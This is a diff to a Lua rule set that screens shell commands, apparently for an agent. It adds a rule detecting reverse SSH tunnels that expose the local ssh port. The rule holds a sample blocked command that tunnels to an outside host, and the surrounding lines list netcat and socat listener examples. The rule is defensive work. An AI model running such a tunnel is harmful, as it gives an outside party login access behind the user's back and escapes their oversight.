@@ -300,6 +300,21 @@ return { class = "execution", title = "Running what nobody has seen", rules = {
     passes = { "nc -l 4444 > received.txt", "ncat -l 4444 --sh-exec 'date'", "socat TCP-LISTEN:8080,fork TCP:localhost:80" },
   },
   {
+    id = "execution.tunnel",
+    severity = "medium",
+    programs = { "ssh", "autossh" },
+    looks_at = "cmd:flag(\"-R\"): a port of another machine that leads to this one's ssh",
+    when = function(cmd)
+      local given = cmd:flag("-R")
+      return type(given) == "string" and re.match(given, [[:(localhost|127\.0\.0\.1|\[?::1\]?):22$]]) and given
+    end,
+    reason = "-R {detail} lets whoever is at the other machine log in to this one.",
+    advice = "Have the user open it.",
+    suggestion = "ssh -L 5432:localhost:5432 db.example",
+    blocked = { "ssh -fN -R 2222:localhost:22 x@203.0.113.9" },
+    passes = { "ssh -R 80:localhost:3000 serveo.net", "ssh -L 2222:localhost:22 db.example" },
+  },
+  {
     id = "execution.scripted-shell",
     severity = "critical",
     programs = { "python", "python2", "python3", "perl", "ruby", "php", "node", "nodejs", "lua", "awk", "gawk" },
